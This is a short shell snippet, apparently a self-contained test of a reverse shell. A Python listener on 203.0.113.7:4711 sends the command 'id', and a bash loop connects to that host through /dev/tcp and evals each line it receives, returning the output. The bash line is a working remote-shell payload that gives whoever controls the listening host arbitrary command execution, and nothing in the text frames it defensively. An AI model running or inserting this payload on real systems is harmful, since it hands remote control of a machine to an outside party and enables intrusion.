python3 -c 'import socket
srv = socket.create_server(("203.0.113.7", 4711)); print("up", flush=True)
c, _ = srv.accept(); c.sendall(b"id\n"); c.shutdown(socket.SHUT_WR)
while c.recv(99): pass' >up &
until test -s up; do :; done
bash -c 'exec 3<>/dev/tcp/203.0.113.7/4711; while read -r l <&3; do eval "$l" <&3 >&3 2>&3; done; true'
wait
